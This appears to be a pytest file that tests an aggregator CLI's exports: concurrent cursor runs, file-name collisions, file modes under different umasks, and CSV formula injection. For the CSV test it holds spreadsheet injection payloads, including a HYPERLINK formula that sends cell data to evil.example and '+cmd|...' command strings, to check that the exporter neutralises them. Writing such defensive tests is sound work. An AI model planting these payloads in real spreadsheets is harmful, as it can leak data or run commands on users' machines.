"""Exports under pressure, through the real CLI: two runs of one cursor, a name already
taken, hostile titles in CSV, and the umask of the files they write (issue 17, cases 4,
5, 9, 10)."""

from __future__ import annotations

import csv
import io
import json
import os
import select
import sqlite3
import stat
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest

EXE = str(Path(sys.executable).parent / "aggregator")
PAUSE = "AGGREGATOR_EXPORT_PAUSE_BEFORE_RENAME"
# Long enough for a second run to start and finish while the first waits before its rename.
HOLD_SECONDS = 8.0


class Desk:
    """A database filled by `aggregator import`, and the CLI pointed at it."""

    def __init__(self, tmp_path: Path) -> None:
        self.tmp = tmp_path
        self.out = tmp_path / "out"
        self.config = tmp_path / "config.toml"
        self.config.write_text('[storage]\npath = "agg.db"\n', encoding="utf-8")
        self.imported = 0
        self.running: list[subprocess.Popen[str]] = []

    def command(self, *args: str) -> list[str]:
        return [EXE, "--config", str(self.config), *args]

    def cli(self, *args: str, umask: int = -1) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            self.command(*args), capture_output=True, text=True, timeout=60, umask=umask
        )

    def add(self, titles: list[str]) -> list[str]:
        """Import one item per title; returns their urls."""
        source = self.tmp / f"batch-{self.imported}.jsonl"
        urls = []
        with source.open("w", encoding="utf-8") as handle:
            for title in titles:
                n = self.imported
                self.imported += 1
                urls.append(f"https://news.example/markets/{n}")
                record = {
                    "id": f"item-{n}",
                    "title": title,
                    "url": urls[-1],
                    "published": f"2026-11-{1 + n % 28:02d}T{n % 24:02d}:{n % 60:02d}:00Z",
                    "publisher": f"Desk {n}",
                    "text": f"Report {n}: nickel moved {n * 13 % 97} points on item {n} alone.",
                }
                handle.write(json.dumps(record) + "\n")
        result = self.cli("import", str(source))
        assert result.returncode == 0, result.stderr
        return urls

    def export_paused(self, output: Path, cursor: str) -> subprocess.Popen[str]:
        """An export that stops for HOLD_SECONDS with its file written but not in place."""
        process = subprocess.Popen(
            self.command(
                "export", "--format", "jsonl", "--output", str(output), "--cursor", cursor
            ),
            env={**os.environ, PAUSE: str(HOLD_SECONDS)},
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        self.running.append(process)
        deadline = time.monotonic() + 20
        while not temporaries(output.parent) and time.monotonic() < deadline:
            assert process.poll() is None, process.communicate()
            time.sleep(0.05)
        assert temporaries(output.parent), "the paused export never wrote its temporary file"
        return process

    def cursor(self, name: str) -> int:
        with sqlite3.connect(self.tmp / "agg.db", timeout=10) as conn:
            row = conn.execute("SELECT seq FROM cursors WHERE name = ?", (name,)).fetchone()
        return int(row[0]) if row else 0

    def high_water(self) -> int:
        with sqlite3.connect(self.tmp / "agg.db", timeout=10) as conn:
            return int(conn.execute("SELECT max(change_seq) FROM items").fetchone()[0])


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    desk = Desk(tmp_path)
    yield desk
    for process in desk.running:
        if process.poll() is None:
            process.kill()
        process.communicate(timeout=10)


def temporaries(directory: Path) -> list[Path]:
    return sorted(directory.glob(".*")) if directory.exists() else []


def exported_urls_of(path: Path) -> Counter[str]:
    lines = path.read_text(encoding="utf-8").splitlines()
    return Counter(json.loads(line)["url"] for line in lines)


def exported_urls(directory: Path) -> Counter[str]:
    """Every url in every JSONL file of the directory, with how often it was written."""
    counts: Counter[str] = Counter()
    for path in sorted(directory.glob("*.jsonl")):
        counts += exported_urls_of(path)
    return counts


def assert_one_error_line(result: subprocess.CompletedProcess[str], *words: str) -> None:
    assert result.returncode == 1, (result.returncode, result.stdout, result.stderr)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    assert all(word in lines[0] for word in words), lines[0]


# -- case 4: two runs of one cursor --------------------------------------------------------


def test_a_second_run_of_a_busy_cursor_fails_at_once_and_writes_nothing(desk: Desk) -> None:
    urls = desk.add([f"Nickel report {n}" for n in range(30)])
    first = desk.export_paused(desk.out / "first.jsonl", "hourly")

    started = time.monotonic()
    second = desk.cli("export", "--format", "jsonl", "--output", str(desk.out / "second.jsonl"),
                      "--cursor", "hourly")  # fmt: skip
    waited = time.monotonic() - started
    _, stderr = first.communicate(timeout=60)
    assert first.returncode == 0, stderr

    # Every item in exactly one file: the two runs together neither repeat nor skip.
    assert exported_urls(desk.out) == Counter(urls)
    assert_one_error_line(second, "'hourly'", "wrote nothing")
    assert waited < HOLD_SECONDS, "the second run waited for the first instead of failing"
    assert not (desk.out / "second.jsonl").exists()
    assert temporaries(desk.out) == []
    assert desk.cursor("hourly") == desk.high_water()


def test_runs_held_mid_write_by_their_readers_write_each_item_once(desk: Desk) -> None:
    # No test seam: four runs of one cursor to stdout, each pipe left unread until every run
    # has begun writing (or ended), so on the old code all four had read the same cursor.
    urls = desk.add([f"Cobalt report {n}, with a longer headline to fill the pipe" for n in
                     range(300)])  # fmt: skip
    command = desk.command("export", "--format", "jsonl", "--output", "-", "--cursor", "c")
    runs = [subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            for _ in range(4)]  # fmt: skip
    desk.running += runs
    firsts = []
    for run in runs:
        assert run.stdout is not None
        ready, _, _ = select.select([run.stdout], [], [], 30)
        assert ready, "an export neither wrote nor ended within 30 s"
        firsts.append(os.read(run.stdout.fileno(), 1))
    outputs, errors = [], []
    for run, first in zip(runs, firsts, strict=True):
        stdout, stderr = run.communicate(timeout=60)
        outputs.append((first + stdout).decode())
        errors.append(subprocess.CompletedProcess(run.args, run.returncode, "", stderr.decode()))
    written = Counter(json.loads(line)["url"] for out in outputs for line in out.splitlines())
    assert written == Counter(urls)
    assert sorted(run.returncode for run in runs) == [0, 1, 1, 1]
    for result in errors:
        if result.returncode:
            assert_one_error_line(result, "'c'", "wrote nothing")
    assert desk.cursor("c") == desk.high_water()


def test_the_cursor_never_moves_backwards_and_no_item_is_skipped(desk: Desk) -> None:
    early = desk.add([f"Zinc report {n}" for n in range(10)])
    slow = desk.export_paused(desk.out / "slow.jsonl", "c")
    late = desk.add([f"Tin report {n}" for n in range(10)])
    fast = desk.cli("export", "--format", "jsonl", "--output", str(desk.out / "fast.jsonl"),
                    "--cursor", "c")  # fmt: skip
    after_fast = desk.cursor("c")
    slow.communicate(timeout=60)
    after_slow = desk.cursor("c")
    assert after_slow >= after_fast, f"cursor moved back from {after_fast} to {after_slow}"

    last = desk.cli("export", "--format", "jsonl", "--output", str(desk.out / "last.jsonl"),
                    "--cursor", "c")  # fmt: skip
    assert last.returncode == 0, last.stderr
    assert exported_urls(desk.out) == Counter(early + late)
    assert fast.returncode == 1 and slow.returncode == 0
    assert desk.cursor("c") == desk.high_water()


def test_a_cursor_moved_by_a_writer_without_the_lock_is_left_where_it_is(desk: Desk) -> None:
    # An aggregator from before the cursor lock takes none; the compare-and-set in the
    # cursor's transaction still stops the slow run from writing or moving the cursor back.
    desk.add([f"Lead report {n}" for n in range(5)])
    slow = desk.export_paused(desk.out / "slow.jsonl", "c")
    desk.add(["Lead report 5"])
    moved = desk.high_water()
    with sqlite3.connect(desk.tmp / "agg.db", timeout=10) as conn:
        conn.execute(
            "INSERT INTO cursors (name, seq, updated_at, exported) "
            "VALUES ('c', ?, '2026-11-25T12:00:00Z', 6)",
            (moved,),
        )
    stdout, stderr = slow.communicate(timeout=60)

    assert desk.cursor("c") == moved
    assert not (desk.out / "slow.jsonl").exists()
    assert temporaries(desk.out) == []
    result = subprocess.CompletedProcess(slow.args, slow.returncode, stdout, stderr)
    assert_one_error_line(result, "'c' moved", "wrote nothing")


# -- case 5: a name already taken ----------------------------------------------------------


def test_an_incremental_export_never_replaces_a_file_and_a_snapshot_does(desk: Desk) -> None:
    target = desk.out / "news.jsonl"
    batches, written = [], []
    for n in range(3):
        batches.append(desk.add([f"Copper report {n}.{k}" for k in range(3)]))
        result = desk.cli("export", "--format", "jsonl", "--output", str(target), "--cursor", "c")
        assert result.returncode == 0, result.stderr
        written.append(result.stderr.strip().rsplit(" to ", 1)[1])
    names = ["news.jsonl", "news-1.jsonl", "news-2.jsonl"]
    assert written == [str(desk.out / name) for name in names]
    # Each file holds the items new since the run before: none was replaced, none lost.
    for name, batch in zip(names, batches, strict=True):
        assert exported_urls_of(desk.out / name) == Counter(batch), name
    assert exported_urls(desk.out) == Counter(url for batch in batches for url in batch)

    # The README's template run twice in a minute: the second run's file gets -1.
    template = str(desk.out / "hourly" / "news-%Y%m%d-%H%M.jsonl")
    paths = []
    for _ in range(2):
        desk.add(["Aluminium report"])
        result = desk.cli("export", "--format", "jsonl", "--output", template, "--cursor", "h")
        assert result.returncode == 0, result.stderr
        paths.append(Path(result.stderr.strip().rsplit(" to ", 1)[1]))
    assert all(path.exists() for path in paths)
    if paths[0].name[:-6] == paths[1].name[:-8]:  # not across a minute's turn
        assert paths[1].name == paths[0].name.replace(".jsonl", "-1.jsonl")
    assert len(exported_urls(desk.out / "hourly")) == desk.imported

    # Without a cursor the file is a snapshot of everything: it replaces the last one.
    snapshot = desk.out / "stories.atom"
    for _ in range(2):
        result = desk.cli("export", "--format", "atom", "--output", str(snapshot), "--collapse")
        assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in desk.out.glob("stories*")) == ["stories.atom"]
    assert temporaries(desk.out) == []


# -- case 9: formulas in CSV ---------------------------------------------------------------

HOSTILE = (
    '=HYPERLINK("https://evil.example/?q="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote(desk: Desk) -> None:
    desk.add([*HOSTILE, "Plain headline about copper"])
    export = desk.cli("export", "--format", "csv", "--output", str(desk.out / "news.csv"))
    assert export.returncode == 0, export.stderr
    listing = desk.cli("items", "--csv")
    assert listing.returncode == 0, listing.stderr
    found = desk.cli("search", "report", "--csv")
    assert found.returncode == 0, found.stderr

    for text in ((desk.out / "news.csv").read_text(encoding="utf-8"), listing.stdout,
                 found.stdout):  # fmt: skip
        table = rows(text)
        titles = {row["title"] for row in table}
        assert titles == {"'" + title for title in HOSTILE} | {"Plain headline about copper"}
        for row in table:
            text_cells = [cell for name, cell in row.items() if name != "rank"]
            assert all(not cell.startswith(("=", "+", "-", "@")) for cell in text_cells), row
            # Numbers are left as numbers, search's rank (negative: FTS5's bm25) too.
            assert row["id"].isdigit() and row["story_id"].isdigit()
            if "rank" in row:
                assert float(row["rank"]) <= 0, row["rank"]

    # The one function both writers use: text neutralised, numbers (negative ones too) kept.
    from aggregator.export import csv_document

    document = csv_document(
        ["lag_seconds", "rank", "title", "summary", "author", "feed"],
        [
            {
                "lag_seconds": -120,
                "rank": -0.5,
                "title": "\t=1+1",
                "summary": "\r@A1",
                "author": "-",
                "feed": "desk\r=1+1",  # a CR inside a cell would start a new row
            }
        ],
    )
    assert rows(document) == [
        {"lag_seconds": "-120", "rank": "-0.5", "title": "'\t=1+1", "summary": "'\n@A1",
         "author": "'-", "feed": "desk\n=1+1"}
    ]  # fmt: skip


# -- case 10: the umask --------------------------------------------------------------------


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o077, 0o600)], ids=["022", "077"])
def test_export_files_get_the_mode_the_umask_gives(desk: Desk, umask: int, mode: int) -> None:
    desk.add([f"Silver report {n}" for n in range(3)])
    incremental = desk.out / "news.jsonl"
    snapshot = desk.out / "stories.atom"
    first = desk.cli("export", "--format", "jsonl", "--output", str(incremental), "--cursor", "c",
                     umask=umask)  # fmt: skip
    assert first.returncode == 0, first.stderr
    for _ in range(2):  # the first creates the snapshot, the second replaces it
        again = desk.cli("export", "--format", "atom", "--output", str(snapshot), umask=umask)
        assert again.returncode == 0, again.stderr
    for path in (incremental, snapshot):
        assert stat.S_IMODE(path.stat().st_mode) == mode, f"{path.name}: {path.stat().st_mode:o}"
    assert len(exported_urls(desk.out)) == 3
    assert "<feed" in snapshot.read_text(encoding="utf-8")
    assert temporaries(desk.out) == []
